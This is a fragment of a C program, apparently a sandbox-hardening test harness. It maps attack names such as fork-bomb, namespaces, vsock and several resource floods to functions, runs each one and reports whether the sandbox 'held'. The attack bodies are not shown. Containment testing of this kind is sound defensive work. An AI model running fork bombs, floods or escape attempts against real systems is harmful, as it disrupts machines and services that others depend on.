    { "file-handles", calls },
    { "kernel-code", calls },
    { "machine", calls },
    { "namespaces", namespaces },
    { "other-doors", other_doors },
    { "terminal", terminal },
    { "vsock", vsock },
    { "abstract", abstract },
    { "swap-target", swap_target },
    { "surroundings", surroundings },
    { "signals", signals },
    { "notify-flood", notify_flood },
    { "orphan-flood", orphan_flood },
    { "console-flood", console_flood },
    { "crowd", crowd },
    { "journal-flood", journal_flood },
    { "fork-bomb", fork_bomb },
};

int main(int argc, char **argv)
{
    for (int i = 1; i < argc; i++) {
        size_t j = 0, n = sizeof(attacks) / sizeof(*attacks);

        while (j < n && strcmp(attacks[j].name, argv[i]) != 0)
            j++;
        if (j == n) {
            fprintf(stderr, "hostile: unknown attack %s\n", argv[i]);
            return 2;
        }
        attack = argv[i];
        broken = false;
        attacks[j].perform();
        if (!broken)
            printf("%s=held\n", attack);
        fflush(stdout);
    }
    return 0;
}
